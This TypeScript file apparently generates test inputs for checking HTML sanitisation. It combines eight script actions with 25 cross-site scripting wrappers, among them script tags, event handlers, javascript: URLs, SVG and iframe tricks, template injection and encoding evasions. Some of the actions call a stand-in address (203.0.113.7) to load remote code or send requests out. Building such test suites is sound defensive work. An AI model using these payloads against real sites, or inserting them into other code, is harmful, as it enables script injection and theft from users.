/** What a script would do if it ran: each leaves something that is looked for. The address is nobody's (RFC 5737). */
const deeds = [
  'window.hit=1',
  'alert(1)',
  "document.title='hit'",
  "fetch('http://203.0.113.7/')",
  "location='http://203.0.113.7/'",
  "import('http://203.0.113.7/x.js')",
  "(new Image).src='http://203.0.113.7/'",
  "open('http://203.0.113.7/')",
] as const;

/** How a text tries to become code, markup, an address or a template. */
const disguises: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</textarea></title><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `' onmouseover="${deed}" autofocus onfocus="${deed}" x='`,
  (deed) => `<svg onload="${deed}"></svg>`,
  (deed) => `<svg><script>${deed}</script><animate onbegin="${deed}" attributeName=x dur=1s></svg>`,
  (deed) => `<math><mi xlink:href="javascript:${deed}">x</mi></math>`,
  (deed) => `javascript:${deed}`,
  (deed) => `<a href="java&#9;script:${deed}" autofocus>x</a>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe src="data:text/html,<script>${deed}</script>"></iframe>`,
  (deed) => `<style>@import url(http://203.0.113.7/${deed.length});*{background:url(http://203.0.113.7/)}</style>`,
  (deed) => `x;background:url(http://203.0.113.7/${deed.length})`,
  (deed) => `<link rel=stylesheet href="http://203.0.113.7/${deed.length}"><base href="http://203.0.113.7/">`,
  (deed) => `<meta http-equiv=refresh content="0;url=http://203.0.113.7/${deed.length}">`,
  (deed) => `<form action="http://203.0.113.7/"><input autofocus onfocus="${deed}"></form>`,
  (deed) => `<details open ontoggle="${deed}"><video><source onerror="${deed}"></video></details>`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}} #{${deed}} <%= ${deed} %> $t(common:next)`,
  (deed) => `\u202E<script>${deed}</script>\u202C`,
  (deed) => `＜script＞${deed}＜/script＞ \uFE64img src=x onerror=${deed}\uFE65`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E &lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `<scr\u0000ipt>${deed}</scr\u0000ipt><\u200Bscript>${deed}</script>`,
  (deed) => `<object data="http://203.0.113.7/"></object><img src=x onerror="${deed}">${'A'.repeat(150)}`,
];

/** All different: every deed in every disguise. */
export const hostileStrings: readonly string[] = deeds.flatMap((deed) => disguises.map((disguise) => disguise(deed)));
